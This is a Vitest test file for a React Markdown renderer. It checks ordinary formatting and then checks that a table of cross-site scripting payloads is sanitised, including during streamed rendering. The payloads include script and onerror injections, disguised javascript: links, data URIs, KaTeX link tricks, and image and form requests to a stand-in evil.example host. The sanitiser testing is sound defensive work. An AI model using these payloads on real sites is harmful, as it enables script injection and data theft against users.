import { render, screen, waitFor } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const show = (text: string) => render(<Markdown text={text} />).container;

describe("Markdown", () => {
  it("becomes elements", () => {
    const container = show(
      "**bold** and `code`\n\n1. one\n2. two\n\n| a | b |\n|:--|--:|\n| 1 | 2<br>3 |\n\n- [x] done",
    );

    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect(container.querySelector("th:nth-child(2)")?.className).toBe("align-right");
    expect(container.querySelector("td br")).not.toBeNull();
    expect(container.querySelector<HTMLInputElement>("input[type=checkbox]")?.checked).toBe(true);
  });

  it("puts headings below those of the page", () => {
    const container = show("# one\n\n###### six\n\n- # in a list");

    expect([...container.querySelectorAll("h1,h2,h3,h4,h5,h6")].map((heading) => heading.tagName)).toEqual([
      "H3",
      "H4",
    ]);
  });

  it("decodes character references as text", () => {
    expect(show("a &lt;b&gt; &amp;&#x41;&#66; &unknown;").textContent).toBe("a <b> &AB &unknown;");
  });

  it("shows a faulty formula as its source", async () => {
    const container = show("$\\frac{$");
    const other = show("$\\notacommand{x}$");

    await waitFor(() => expect(other.querySelector("code")?.textContent).toBe("\\notacommand{x}"));
    expect(container.textContent).toBe("\\frac{");
    expect(other.querySelector("[style]")).toBeNull();
  });
});

const ATTACKS: Record<string, string> = {
  "a script element": "<script>alert(1)</script>",
  "an image with a handler": "a <img src=x onerror=alert(1)> b",
  "an svg with a handler": "<svg onload=alert(1)><animate onbegin=alert(1)>",
  "an iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "a style and a link":
    "<style>*{background:url(https://evil.example)}</style>\n\n<link rel=stylesheet href=//evil.example>",
  "a form": '<form action="https://evil.example"><button>send</button></form>',
  "a javascript link": "[x](javascript:alert(1))",
  "a javascript link in disguise":
    "[x](JaVa&#x09;Script&colon;alert(1)) [y](&#106;avascript:alert(1)) [z](\tjavascript:alert(1))",
  "a javascript reference": "[x][1]\n\n[1]: javascript:alert(1)",
  "a javascript autolink": "<javascript:alert(1)>",
  "a data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a vbscript link": "[x](vbscript:msgbox(1))",
  "a file link": "[x](file:///etc/passwd)",
  "a blob link": "[x](blob:https://evil.example/1)",
  "a link into this site": "[x](/api/v1/auth/logout) [y](//evil.example) [z](#x)",
  "an image that would be fetched": "![secret](https://evil.example/?q=secret)",
  "an image whose text is markup": '![<img src=x onerror=alert(1)>"](https://evil.example/a.png "onerror=alert(1)")',
  "a data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "a code fence that closes itself": '```html"><img src=x onerror=alert(1)>\n<b onclick=alert(1)>\n```',
  "a table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "a formula that links": "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
  "a formula with html": "$\\htmlData{x=y}{z} \\includegraphics{https://evil.example/a.png}$",
  "a formula that is markup": "$<img src=x onerror=alert(1)>$\n\n$$\n</annotation><script>alert(1)</script>\n$$",
};

const ALLOWED = new Set(
  "ARTICLE DIV SECTION P SPAN STRONG EM DEL CODE PRE BR UL OL LI A H3 H4 H5 H6 HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD INPUT FIGURE FIGCAPTION BUTTON svg path rect circle".split(
    " ",
  ),
);

/** What must never be in the page, at whatever point of the stream one looks. */
function expectHarmless(container: HTMLElement) {
  for (const element of container.querySelectorAll("*")) {
    if (element.closest(".katex")) continue;
    expect(ALLOWED).toContain(element.tagName);
  }
  expect(container.querySelector("img,script,iframe,object,embed,style,link,meta,form,base,video,audio")).toBeNull();
  for (const element of container.querySelectorAll("*"))
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/i);
      if (["href", "src", "xlink:href", "action", "formaction", "srcdoc"].includes(name))
        expect(value).toMatch(/^(https?:|mailto:)/);
    }
  for (const link of container.querySelectorAll("a")) {
    expect(link.rel).toContain("noopener");
    expect(link.target).toBe("_blank");
  }
}

describe.each(Object.entries(ATTACKS))("%s", (_, attack) => {
  it("is harmless", async () => {
    const container = show(attack);
    await new Promise((resolve) => setTimeout(resolve, 20));

    expectHarmless(container);
  });

  it("is harmless at every step of a stream", () => {
    const { container, rerender } = render(<Markdown text="" />);
    const text = `before\n\n${attack}\n\nafter`;

    for (let length = 1; length <= text.length; length++) {
      rerender(<Markdown text={text.slice(0, length)} />);
      expectHarmless(container);
    }
  });
});
